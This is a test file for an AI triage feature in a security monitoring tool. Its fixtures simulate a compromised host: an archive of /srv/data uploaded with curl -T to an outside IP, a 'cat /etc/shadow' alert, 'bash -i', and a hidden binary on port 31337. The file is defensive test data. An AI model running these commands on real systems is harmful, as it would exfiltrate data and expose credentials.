// AI triage against a loopback chat completions double speaking the real
// JSON: reports and high alerts are analysed and the answers stored beside
// them; only allowed fields leave, redacted ones as placeholders; timeouts,
// 429s, 5xx and unparseable answers are retried with backoff, then the
// analysis is marked missing; logs name sizes, never content or the key.

import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createLogger, type EcsDocument } from "@vigil/common";
import {
  cellReport,
  DEFAULT_REPORT_LIMITS,
  DEFAULT_TRIAGE_FIELDS,
  FileReportStore,
  type HostCell,
  periodOf,
  type Report,
  TRIAGE_PROMPT,
  TriageClient,
  type TriageField,
  TriageService,
} from "@vigil/hub";
import { OpenAiDouble } from "../doubles/openai-double";

const API_KEY = "sk-test-0123456789abcdef";
const START = Date.parse("2026-02-03T10:00:00Z");

function hostCell(): HostCell {
  return {
    hostId: "h-web-1",
    hostName: "web-1.corp.example",
    events: 42,
    byType: {
      entries: [
        { key: "process/exec", count: 30 },
        { key: "network/connect", count: 12 },
      ],
      complete: true,
    },
    commands: {
      entries: [
        { key: "/usr/bin/tar czf /tmp/x.tgz /srv/data", count: 3 },
        { key: "/usr/bin/curl -T /tmp/x.tgz http://198.51.100.7/", count: 1 },
      ],
      complete: true,
    },
    users: {
      entries: [
        { key: "alice", count: 40 },
        { key: "root", count: 2 },
      ],
      complete: true,
    },
    newExecutables: {
      count: 1,
      items: [
        {
          hostId: "h-web-1",
          sha256: "ab".repeat(32),
          executable: "/tmp/.x/run",
          firstSeen: "2026-02-03T10:01:00.000Z",
        },
      ],
    },
    newListeningPorts: {
      count: 1,
      items: [
        { hostId: "h-web-1", port: 31337, executable: "/tmp/.x/run", firstSeen: "2026-02-03T10:02:00.000Z" },
      ],
    },
    newDestinations: {
      count: 1,
      items: [{ hostId: "h-web-1", ip: "198.51.100.7", port: 80, firstSeen: "2026-02-03T10:03:00.000Z" }],
    },
    alerts: [{ ruleId: "rule-revshell", ruleName: "Reverse shell", level: "critical", count: 1 }],
  };
}

function dailyReport(): Report {
  const report = cellReport(
    periodOf(1, START),
    hostCell(),
    DEFAULT_REPORT_LIMITS,
    new Date(START + 3_600_000),
  );
  // The same content as a daily report, the level triage is configured for by default.
  const daily = periodOf(3, START);
  return {
    ...report,
    id: `3/${report.scope}/${new Date(daily.startMs).toISOString()}`,
    level: 3,
    levelName: "daily",
    period: {
      start: new Date(daily.startMs).toISOString(),
      end: new Date(daily.endMs).toISOString(),
      label: daily.label,
    },
  };
}

describe("reports - AI triage", () => {
  let double: OpenAiDouble;
  let dir: string;
  let store: FileReportStore;
  let lines: string[];
  let sleeps: number[];

  beforeEach(async () => {
    double = await OpenAiDouble.start();
    dir = mkdtempSync(join(tmpdir(), "reports-triage-"));
    store = new FileReportStore(dir);
    lines = [];
    sleeps = [];
  });

  afterEach(async () => {
    await double.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  function service(
    overrides: {
      fields?: TriageField[];
      redact?: TriageField[];
      maxAttempts?: number;
      timeoutMs?: number;
    } = {},
  ) {
    const logger = createLogger({
      name: "triage-test",
      level: "debug",
      destination: { write: (line) => lines.push(line) },
    });
    const config = {
      reportLevels: [3, 4, 5],
      alerts: false,
      alertMinLevel: "high" as const,
      fields: overrides.fields ?? [...DEFAULT_TRIAGE_FIELDS],
      redact: overrides.redact ?? [],
      maxRequestBytes: 64 * 1024,
      timeoutMs: overrides.timeoutMs ?? 5_000,
      maxAttempts: overrides.maxAttempts ?? 4,
    };
    const client = new TriageClient({
      baseUrl: double.baseUrl,
      model: "triage-model-1",
      apiKey: API_KEY,
      timeoutMs: config.timeoutMs,
      maxAttempts: config.maxAttempts,
      retryBaseDelayMs: 100,
      logger,
      sleep: async (ms) => {
        sleeps.push(ms);
      },
    });
    return new TriageService({ client, store, config, logger });
  }

  const sentPayload = (index = 0) =>
    JSON.parse(double.requests[index]?.body.messages[1]?.content ?? "null") as Record<string, unknown>;

  test("success - the report is sent with the prompt and key, the findings are stored beside it", async () => {
    double.answer = () =>
      `\`\`\`json\n${JSON.stringify({
        summary: "archive then upload to a new address",
        findings: [
          {
            category: "exfiltration",
            severity: "high",
            description: "tar of a home directory followed by curl -T to 198.51.100.7",
            evidence: ["/usr/bin/curl -T /tmp/x.tgz http://198.51.100.7/"],
          },
        ],
      })}\n\`\`\``;
    const triage = service();
    const report = dailyReport();
    await store.put(report);
    triage.onReport(report);
    triage.onReport({ ...report, level: 1 }); // cells are not configured: not sent
    await triage.idle();

    expect(double.requests).toHaveLength(1);
    const request = double.requests[0];
    expect(request?.headers.authorization).toBe(`Bearer ${API_KEY}`);
    expect(request?.body.model).toBe("triage-model-1");
    expect(request?.body.messages[0]).toEqual({ role: "system", content: TRIAGE_PROMPT });
    for (const asked of [
      "unusual command patterns",
      "privilege escalation",
      "exfiltration",
      "anomalous network access",
      "suspicious file operations",
    ]) {
      expect(TRIAGE_PROMPT).toContain(asked);
    }
    expect(sentPayload()).toMatchObject({
      kind: "vigil-report",
      level: "daily",
      events: 42,
      commands: [
        { command: "/usr/bin/tar czf /tmp/x.tgz /srv/data", count: 3 },
        { command: "/usr/bin/curl -T /tmp/x.tgz http://198.51.100.7/", count: 1 },
      ],
    });

    const analysis = await store.getAnalysis(3, report.scope, Date.parse(report.period.start));
    expect(analysis).toMatchObject({
      subject: report.id,
      status: "done",
      summary: "archive then upload to a new address",
      attempts: 1,
      model: "triage-model-1",
      requestBytes: request?.bytes,
    });
    expect(analysis?.findings?.[0]?.category).toBe("exfiltration");
    expect((await store.list({ level: 3, limit: 10 }))[0]?.hasAnalysis).toBe(true);

    // Logged with its size; neither the content nor the key.
    const log = lines.join("");
    expect(log).toContain(`"requestBytes":${request?.bytes}`);
    expect(log).not.toContain("curl -T");
    expect(log).not.toContain(API_KEY);
  });

  test("privacy - by default no user, host or address leaves; redacted fields go as placeholders", async () => {
    const triage = service();
    await store.put(dailyReport());
    triage.onReport(dailyReport());
    await triage.idle();
    const byDefault = JSON.stringify(double.requests[0]?.body);
    for (const secret of ["alice", "web-1.corp.example", '198.51.100.7"', "h-web-1"]) {
      expect(byDefault).not.toContain(secret);
    }
    expect(sentPayload(0)).not.toHaveProperty("users");
    expect(sentPayload(0)).not.toHaveProperty("host");

    const redacting = service({
      fields: [...DEFAULT_TRIAGE_FIELDS, "user.name", "host.name", "destination.ip"],
      redact: ["user.name", "host.name", "destination.ip"],
    });
    redacting.onReport(dailyReport());
    await redacting.idle();
    const payload = sentPayload(1);
    expect(payload.users).toEqual([
      { user: "user.name#1", count: 40 },
      { user: "user.name#2", count: 2 },
    ]);
    expect(payload.host).toBe("host.name#1");
    expect(payload.newDestinations).toEqual([{ ip: "destination.ip#1", port: 80 }]);
    const sent = JSON.stringify(double.requests[1]?.body);
    expect(sent).not.toContain("alice");
    expect(sent).not.toContain("web-1.corp.example");
  });

  test("retries - 429 (Retry-After), 5xx, a timeout and an unparseable answer are retried with backoff", async () => {
    double.failNext(
      { kind: "status", status: 429, retryAfterSeconds: 2 },
      { kind: "status", status: 503 },
      { kind: "hang" },
      { kind: "content", content: "Sure! Here is my analysis: nothing." },
    );
    const triage = service({ maxAttempts: 5, timeoutMs: 300 });
    const report = dailyReport();
    triage.onReport(report);
    await triage.idle();
    expect(double.requests).toHaveLength(5);
    // base 100 ms doubling; the 429's Retry-After (2 s) is longer than its backoff.
    expect(sleeps).toEqual([2000, 200, 400, 800]);
    const analysis = await store.getAnalysis(3, report.scope, Date.parse(report.period.start));
    expect(analysis).toMatchObject({ status: "done", attempts: 5 });
    const failures = lines
      .filter((line) => line.includes("triage request failed"))
      .map((line) => JSON.parse(line));
    expect(failures.map((line) => line.reason)).toEqual([
      "HTTP 429 (RateLimitError)",
      "HTTP 503 (InternalServerError)",
      expect.stringContaining("no answer"),
      "the answer is not JSON",
    ]);
  });

  test("missing - after the last attempt the analysis is marked missing with the reason; a 400 is not retried", async () => {
    double.failNext(
      { kind: "status", status: 500 },
      { kind: "status", status: 502 },
      { kind: "status", status: 500 },
    );
    const triage = service({ maxAttempts: 3 });
    const report = dailyReport();
    await store.put(report);
    triage.onReport(report);
    await triage.idle();
    expect(double.requests).toHaveLength(3);
    expect(await store.getAnalysis(3, report.scope, Date.parse(report.period.start))).toMatchObject({
      status: "missing",
      reason: "HTTP 500 (InternalServerError)",
      attempts: 3,
    });
    expect(await store.get(3, report.scope, Date.parse(report.period.start))).toEqual(report);

    double.failNext({ kind: "status", status: 400 });
    const weekly = {
      ...report,
      level: 4 as const,
      period: { ...report.period, start: "2026-02-02T00:00:00.000Z" },
    };
    triage.onReport(weekly);
    await triage.idle();
    expect(double.requests).toHaveLength(4);
    expect(await store.getAnalysis(4, report.scope, Date.parse("2026-02-02T00:00:00Z"))).toMatchObject({
      status: "missing",
      reason: "HTTP 400 (BadRequestError)",
    });
    expect(sleeps).toEqual([100, 200]);
  });

  test("alerts - a high alert is sent with its process context and its analysis stored under its id; lower ones are not", async () => {
    const triage = service({ fields: [...DEFAULT_TRIAGE_FIELDS, "user.name"], redact: ["user.name"] });
    const alert = (id: string, level: string): EcsDocument => ({
      "@timestamp": "2026-02-03T10:05:00.000Z",
      event: { kind: "alert", id, severity: level === "high" ? 73 : 21 },
      rule: { id: "rule-shadow", name: "Credential file read" },
      host: { id: "h-web-1", name: "web-1.corp.example" },
      process: {
        executable: "/usr/bin/cat",
        command_line: "cat /etc/shadow",
        parent: { executable: "/bin/bash", command_line: "bash -i" },
      },
      user: { name: "alice" },
      file: { path: "/etc/shadow" },
      vigil: { alert: { level } },
    });
    expect(await triage.analyseAlert(alert("alert-low-1", "low"))).toBeUndefined();
    const analysis = await triage.analyseAlert(alert("alert-high-1", "high"));
    expect(analysis?.status).toBe("done");
    expect(double.requests).toHaveLength(1);
    expect(sentPayload()).toEqual({
      kind: "vigil-alert",
      "@timestamp": "2026-02-03T10:05:00.000Z",
      "event.severity": 73,
      "rule.id": "rule-shadow",
      "rule.name": "Credential file read",
      "process.executable": "/usr/bin/cat",
      "process.command_line": "cat /etc/shadow",
      "process.parent.executable": "/bin/bash",
      "process.parent.command_line": "bash -i",
      "user.name": "user.name#1",
    });
    expect(await store.getAlertAnalysis("alert-high-1")).toMatchObject({
      subject: "alert/alert-high-1",
      status: "done",
    });
    expect(await store.getAlertAnalysis("alert-low-1")).toBeUndefined();
  });
});
